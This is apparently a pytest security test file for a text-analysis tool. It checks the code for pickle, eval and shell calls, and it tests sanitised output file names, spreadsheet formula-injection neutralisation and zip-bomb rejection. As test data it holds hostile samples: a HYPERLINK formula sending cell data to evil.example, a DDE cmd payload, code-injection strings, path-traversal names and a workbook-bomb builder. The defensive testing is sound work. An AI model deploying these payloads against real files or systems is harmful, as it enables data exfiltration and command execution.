"""Hostile content: no code runs from data, output names stay inside the output folder, spreadsheet
cells never become formulas, workbooks cannot unpack without bound, and every regular expression on
user text is benchmarked.

Sources: OWASP "CSV Injection" (cells starting with = + - @ tab or carriage return) [recalled from
memory]; PKWARE APPNOTE.TXT §4.3.7 and §4.3.12 (local and central directory headers: the
uncompressed size at offsets 22 and 24) [recalled from memory]; Microsoft "Naming Files, Paths, and
Namespaces" (reserved device names CON, PRN, AUX, NUL, COM1-9, LPT1-9) [recalled from memory].
"""

from __future__ import annotations

import ast
import csv
import importlib.util
import struct
import sys
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest
import tomli_w
from hypothesis import given, settings
from hypothesis import strategies as st

from workbench.cli import main
from workbench.core.errors import InputError
from workbench.core.export import safe_name
from workbench.core.ingest import read_corpus
from workbench.core.ledger import Ledger
from workbench.core.profiles import load_profile, profiles_root
from workbench.core.progress import Reporter
from workbench.core.settings import study_from_dict
from workbench.core.tables import FORMULA_TRIGGERS

PACKAGE = Path(__file__).resolve().parents[1] / "workbench"

# --------------------------------------------------------------------------- no code from data

FORBIDDEN_MODULES = {"pickle", "cPickle", "_pickle", "dill", "marshal", "shelve", "joblib", "cloudpickle"}
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__"}
#: Unpickling anywhere is forbidden without exception; importing pickle only where said why.
UNPICKLING = {"pickle.load", "pickle.loads", "pickle.Unpickler", "_pickle.loads"}
PICKLE_IMPORTS = {
    "core/mapping.py": "pickle.dumps only, to fingerprint a recipe's content for the kit cache; nothing is unpickled",
}
#: Modules allowed to import a module by a computed name, and why.
DYNAMIC_IMPORTS = {
    "core/stopwords.py": "spacy.lang.<code>.stop_words: only modules inside spaCy's own language package",
}


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return ""


def scan(source: str, where: str) -> list[str]:
    """Findings in one module, from its syntax tree: strings and comments that merely mention
    ``eval(`` or ``pickle`` are not code and are not reported."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found += [
                f"{where}:{node.lineno}: import {a.name}" for a in node.names
                if a.name.split(".")[0] in FORBIDDEN_MODULES and not (a.name == "pickle" and where in PICKLE_IMPORTS)
            ]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in FORBIDDEN_MODULES:
            found.append(f"{where}:{node.lineno}: from {node.module} import")
        elif isinstance(node, ast.Call):
            name = _dotted(node.func)
            keywords = {k.arg: k.value for k in node.keywords}
            if name in FORBIDDEN_CALLS or name in UNPICKLING:
                found.append(f"{where}:{node.lineno}: {name}()")
            elif name.split(".")[-1] in {"system", "popen"} and name.split(".")[0] == "os":
                found.append(f"{where}:{node.lineno}: {name}()")
            elif name.startswith("subprocess.") or name in {"Popen", "run", "call", "check_output", "check_call"}:
                shell = keywords.get("shell")
                if isinstance(shell, ast.Constant) and shell.value is True or shell is not None and not isinstance(shell, ast.Constant):
                    found.append(f"{where}:{node.lineno}: {name}(shell=...)")
            elif name.endswith("yaml.load") or name == "load" and "Loader" in keywords:
                loader = _dotted(keywords["Loader"]) if "Loader" in keywords else ""
                if not loader.endswith(("SafeLoader", "CSafeLoader")):
                    found.append(f"{where}:{node.lineno}: yaml.load without SafeLoader")
            elif name.endswith(("read_pickle", "to_pickle")):
                found.append(f"{where}:{node.lineno}: {name}()")
            elif name.endswith("load") and isinstance(keywords.get("allow_pickle"), ast.Constant) and keywords["allow_pickle"].value:
                found.append(f"{where}:{node.lineno}: {name}(allow_pickle=True)")
            elif name.endswith("import_module") and not (node.args and isinstance(node.args[0], ast.Constant)):
                if where not in DYNAMIC_IMPORTS:
                    found.append(f"{where}:{node.lineno}: import_module with a computed name")
    return found


def test_scanner_finds_code_not_words() -> None:
    """The scanner can fail: it reports each forbidden construct, and nothing in strings or comments."""
    bad = (
        "import pickle\nfrom marshal import loads\nimport shelve\neval(x)\nexec('1')\n"
        "subprocess.run('ls', shell=True)\nos.system('ls')\nyaml.load(text)\nyaml.load(t, Loader=yaml.Loader)\n"
        "np.load(p, allow_pickle=True)\npd.read_pickle(p)\nimportlib.import_module(name)\n"
    )
    assert len(scan(bad, "x.py")) == 12
    assert scan("import pickle\nkey = pickle.dumps(x)\n", "core/mapping.py") == []
    assert len(scan("import pickle\nvalue = pickle.loads(data)\n", "core/mapping.py")) == 1
    harmless = (
        "# eval(x) and pickle are mentioned here\ntext = 'exec(1); import pickle; shell=True'\n"
        "re.compile('x').sub('', y)\nyaml.load(t, Loader=yaml.SafeLoader)\nsubprocess.run(['ls'], shell=False)\n"
        "np.load(p)\nimportlib.import_module('json')\n"
    )
    assert scan(harmless, "x.py") == []


def test_no_pickle_eval_exec_or_shell_anywhere_in_the_package() -> None:
    files = sorted(PACKAGE.rglob("*.py"))
    assert len(files) > 40
    findings = [f for path in files for f in scan(path.read_text(encoding="utf-8"), path.relative_to(PACKAGE).as_posix())]
    assert findings == []


def test_language_profiles_are_data_only(tmp_path: Path) -> None:
    """A profile folder holding Python files: loading the profile runs none of them, and values that
    look like code stay text."""
    folder = tmp_path / "en"
    folder.mkdir()
    marker = tmp_path / "ran"
    payload = f"open({str(marker)!r}, 'w').write('x')\n"
    for name in ("__init__.py", "profile.py", "stop_add.py", "lemma_overrides.py", "sitecustomize.py"):
        (folder / name).write_text(payload, encoding="utf-8")
    (folder / "profile.toml").write_text(tomli_w.dumps({"name": "__import__('os').system('id')", "lemmatizer": "none"}))
    (folder / "stop_add.txt").write_text("eval(open('x').read())\n", encoding="utf-8")
    profile = load_profile("en", root=tmp_path)
    assert not marker.exists()
    assert profile.name == "__import__('os').system('id')"
    assert profile.stop_add == frozenset({"eval(open('x').read())"})


def test_study_values_are_data_only(tmp_path: Path) -> None:
    """A study is TOML validated into typed fields; a value that looks like code is a string or an error."""
    (tmp_path / "a.csv").write_text("id,q\n1,a\n", encoding="utf-8")
    study = study_from_dict(
        {"study": {"name": "__import__('os')"}, "sources": [{"path": "a.csv"}], "columns": {"id": "id", "text": ["q"]},
         "clean": {"non_answers": ["eval('1')"]}},
        base_dir=tmp_path,
    )
    assert study.study.name == "__import__('os')" and study.clean.non_answers == ["eval('1')"]


# --------------------------------------------------------------------------- output names

_RESERVED = {"con", "prn", "aux", "nul", *(f"com{i}" for i in range(1, 10)), *(f"lpt{i}" for i in range(1, 10))}
HOSTILE_NAMES = [
    "../../etc", "..", ".", "...", "", " ", "CON", "con.txt", "Aux", "NUL.csv", "COM1", "lpt9.json", "a/b", "a\\b",
    "\x00", "a\x00b", "~", "$HOME", "%APPDATA%", 'a<b>c:d"e|f?g*h', "\u202eexe.csv", "\u200b", "x" * 1000,
    "é" * 300, "😀" * 100, "-rf", "--help", "C:\\Windows", "//server/share", "name\nnewline", "\t",
]


def _check_name(name: str, out: Path) -> None:
    assert name and name not in {".", ".."} and ".." not in name
    assert not any(ch in name for ch in '/\\<>:"|?*')
    assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Zs") for ch in name)
    assert not name.startswith(("-", ".")) and not name.endswith(".")
    assert len(name.encode("utf-8")) <= 100
    assert name.split(".")[0].casefold() not in _RESERVED
    assert (out / name).resolve().parent == out.resolve()


@pytest.mark.parametrize("raw", HOSTILE_NAMES)
def test_hostile_group_values_make_safe_file_names(raw: str, tmp_path: Path) -> None:
    _check_name(safe_name(raw), tmp_path)


@settings(max_examples=300)
@given(st.lists(st.text(max_size=120), min_size=1, max_size=8))
def test_any_text_makes_a_safe_unique_file_name(values: list[str]) -> None:
    """Property: any text (group values, table names) gives a safe name; names stay unique without regard to case."""
    used: set[str] = set()
    names = [safe_name(v, used) for v in values]
    for name in names:
        _check_name(name, Path("/out"))
    assert len({n.casefold() for n in names}) == len(names)


# --------------------------------------------------------------------------- formula injection, end to end

HOSTILE_ROWS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", '=train=1+1 the train was late'),
    ("@SUM(1+1)", "../../etc", "+train was late, +1+1"),
    ("+1+2", "CON", "-2+3 the coffee was cold and the train late"),
    ("-cmd", "\tDE", "@train late again, coffee cold"),
    ("\rr5", "\rDE", "\ttrain late, coffee cold"),
    ("r6", "=1+1", "\nthe train was late and the coffee cold"),
]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_spreadsheet_outputs_never_start_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """OWASP "CSV Injection": hostile ids, group values and answers go through a whole run; in every CSV
    and XLSX it writes, no text cell starts with = + - @ tab CR or LF (numbers such as -0.5 are numbers),
    XLSX holds no formula cell, and every file lands inside the output folder."""
    with (tmp_path / "answers.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "country", "q"])
        writer.writerows(HOSTILE_ROWS)
    study = tmp_path / "h.study.toml"
    study.write_text(tomli_w.dumps({
        "sources": [{"path": "answers.csv", "delimiter": ","}],
        "columns": {"id": "id", "text": ["q"], "groups": ["country"]},
        "languages": {"expected": ["en"], "fallback": "default", "default": "en"},
        "weigh": {"min_df": 1},
        "compare": {"bootstrap": 0, "min_group_size": 1, "min_freq": 1, "kwic_terms": ["train"]},
        "export": {"formats": ["csv", "xlsx", "png"]},
    }), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["-q", "run", str(study), "--out", str(out)]) == 0, capsys.readouterr().err
    files = [p for p in out.rglob("*") if p.is_file()]
    assert all(p.resolve().is_relative_to(out.resolve()) for p in files)
    assert any(p.parent.name == "charts" for p in files)
    csv_cells = xlsx_cells = 0
    for path in files:
        if path.suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as handle:
                for record in csv.reader(handle):
                    for cell in record:
                        csv_cells += 1
                        assert not (cell[:1] in FORMULA_TRIGGERS and not _is_number(cell)), (path.name, cell)
        elif path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        xlsx_cells += 1
                        assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                        if isinstance(cell.value, str):
                            assert cell.value[:1] not in FORMULA_TRIGGERS, (path.name, cell.coordinate, cell.value)
    assert csv_cells > 500 and xlsx_cells > 200
    answers = (out / "corpus" / "answers.csv").read_text(encoding="utf-8-sig")
    assert "'=train=1+1" in answers and "'@SUM(1+1)" in answers  # neutralised, not dropped


# --------------------------------------------------------------------------- workbook bombs


def _declare_size(path: Path, member: str, size: int) -> None:
    """Rewrite the uncompressed size of ``member`` in its local header (offset 22) and central
    directory entry (offset 24), APPNOTE.TXT §4.3.7 and §4.3.12, leaving the data as it is."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(member)
    struct.pack_into("<I", data, info.header_offset + 22, size)
    name = member.encode()
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + name_length]) == name:
            struct.pack_into("<I", data, at + 24, size)
            break
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))


def _read(tmp_path: Path, name: str) -> str:
    study = study_from_dict({"sources": [{"path": name}], "columns": {"id": "id", "text": ["q"]}}, base_dir=tmp_path)
    with pytest.raises(InputError) as caught:
        read_corpus(study, Ledger(), Reporter())
    message = str(caught.value)
    assert "\n" not in message
    return message


def _workbook(path: Path, padding: int = 0) -> None:
    book = openpyxl.Workbook()
    book.active.append(["id", "q"])
    book.active.append([1, "the train was late"])
    book.save(path)
    if padding:  # white space inside <sheetData> is allowed XML and deflates about 1,000:1
        with zipfile.ZipFile(path) as archive:
            parts = {i.filename: archive.read(i) for i in archive.infolist()}
        sheet = parts["xl/worksheets/sheet1.xml"]
        parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * padding, 1)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in parts.items():
                archive.writestr(name, data)


def test_workbook_declaring_gigabytes_is_refused_before_unpacking(tmp_path: Path) -> None:
    _workbook(tmp_path / "big.xlsx")
    _declare_size(tmp_path / "big.xlsx", "xl/worksheets/sheet1.xml", 3 * 1024**3)
    message = _read(tmp_path, "big.xlsx")
    assert "would unpack to 3.0 GiB (limit 2.0 GiB)" in message and "decompression bomb" in message


def test_workbook_part_larger_than_it_declares_is_not_unpacked_past_its_size(tmp_path: Path) -> None:
    """A bomb that lies: 50 MB of padding declared as 2,000 bytes. zipfile stops at the declared
    size and fails its CRC check, so the reader reports a damaged workbook instead of inflating it."""
    _workbook(tmp_path / "liar.xlsx", padding=50_000_000)
    assert (tmp_path / "liar.xlsx").stat().st_size < 200_000
    _declare_size(tmp_path / "liar.xlsx", "xl/worksheets/sheet1.xml", 2_000)
    message = _read(tmp_path, "liar.xlsx")
    assert "liar.xlsx" in message and "save it again" in message


# --------------------------------------------------------------------------- regular expressions on user text

_PATTERN_CALLS = {"compile", "sub", "subn", "match", "search", "fullmatch", "findall", "finditer", "split"}
#: pandas ``.str`` methods and whether their pattern is a regular expression by default
#: (pandas 2: ``replace`` literal unless regex=True; ``split`` literal for one character).
_STR_CALLS = {"fullmatch": True, "match": True, "extract": True, "findall": True, "count": True, "contains": True,
              "replace": False, "split": None}


def _str_method_is_regex(method: str, pattern: object, keywords: dict[str | None, ast.expr]) -> bool:
    regex = keywords.get("regex")
    if isinstance(regex, ast.Constant):
        return bool(regex.value)
    default = _STR_CALLS[method]
    if default is None:  # split: a one-character pattern is taken literally
        return not (isinstance(pattern, str) and len(pattern) == 1)
    return default


def patterns_in_core() -> set[str]:
    """Every regular-expression pattern written in workbench/core, as its source text: ``re.*`` calls and
    pandas ``.str`` methods that take a regex, with a literal, a module-level string or ``X.pattern`` of
    a module-level compiled literal; anything else is reported as computed, with its place."""
    found: set[str] = set()
    for path in sorted((PACKAGE / "core").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        strings: dict[str, str] = {}
        for statement in tree.body:
            if not (isinstance(statement, ast.Assign) and len(statement.targets) == 1
                    and isinstance(statement.targets[0], ast.Name)):
                continue
            value = statement.value
            if isinstance(value, ast.Call) and _dotted(value.func) == "re.compile" and value.args:
                value = value.args[0]
            if isinstance(value, ast.Constant) and isinstance(value.value, str):
                strings[statement.targets[0].id] = value.value
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or not node.args:
                continue
            name = _dotted(node.func)
            first = node.args[0]
            literal = first.value if isinstance(first, ast.Constant) else None
            if name.startswith("re.") and name[3:] in _PATTERN_CALLS:
                pass
            elif ".str." in name and name.split(".")[-1] in _STR_CALLS:
                if not _str_method_is_regex(name.split(".")[-1], literal, {k.arg: k.value for k in node.keywords}):
                    continue
            else:
                continue
            if isinstance(literal, str):
                found.add(literal)
            elif isinstance(first, ast.Name) and first.id in strings:
                found.add(strings[first.id])
            elif isinstance(first, ast.Attribute) and first.attr == "pattern" and _dotted(first.value) in strings:
                found.add(strings[_dotted(first.value)])
            else:
                found.add(f"<computed in {path.relative_to(PACKAGE).as_posix()}:{node.lineno}>")
    return found


def test_the_regex_benchmark_lists_every_pattern_on_user_text() -> None:
    """tests/bench/bench_regex.py must time every pattern; a pattern added without it fails here."""
    spec = importlib.util.spec_from_file_location("bench_regex", PACKAGE.parent / "tests" / "bench" / "bench_regex.py")
    assert spec is not None and spec.loader is not None
    bench = importlib.util.module_from_spec(spec)
    sys.modules.setdefault("bench_regex", bench)
    spec.loader.exec_module(bench)
    benched = {pattern.pattern for pattern, _mode in bench.PATTERNS.values()}
    computed = {p for p in patterns_in_core() if p.startswith("<computed")}
    missing = {p for p in patterns_in_core() - computed if p not in benched}
    assert missing == set(), f"patterns not in bench_regex.PATTERNS: {missing}"
    # computed patterns: built from constants (pii placeholders, clean's removal set, nonanswer's
    # apostrophes and combining marks) or from a KWIC term
    allowed = {"core/pii.py", "core/clean.py", "core/nonanswer.py", "core/kwic.py"}
    assert {p.split(" in ")[1].split(":")[0] for p in computed} <= allowed, computed
